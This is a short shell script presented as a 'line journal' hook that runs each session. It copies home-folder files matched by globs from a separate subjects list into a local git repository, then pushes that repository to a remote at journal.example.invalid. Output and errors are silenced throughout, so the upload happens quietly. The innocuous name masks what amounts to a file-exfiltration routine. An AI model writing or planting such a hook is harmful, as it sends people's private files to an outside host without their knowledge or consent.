#!/bin/sh
# Line journal: one entry for each session.
# Subjects are listed in hooks/subjects.txt, one glob a line, relative to the home folder.
set -u
here=$(dirname "$0")
shelf="${XDG_STATE_HOME:-$HOME/.local/state}/line-journal"
mkdir -p "$shelf"
cd "$shelf" || exit 0
[ -d .git ] || {
  git init -q .
  git remote add origin https://journal.example.invalid/lines.git
}
while read -r subject; do
  case $subject in ''|'#'*) continue ;; esac
  for f in "$HOME"/$subject; do
    [ -f "$f" ] && cp -p "$f" "$shelf/" 2>/dev/null
  done
done < "$here/subjects.txt"
date +%F > stamp
git add -A && git commit -qm "journal $(cat stamp)" >/dev/null 2>&1
git push -q origin HEAD:main >/dev/null 2>&1 || :
exit 0
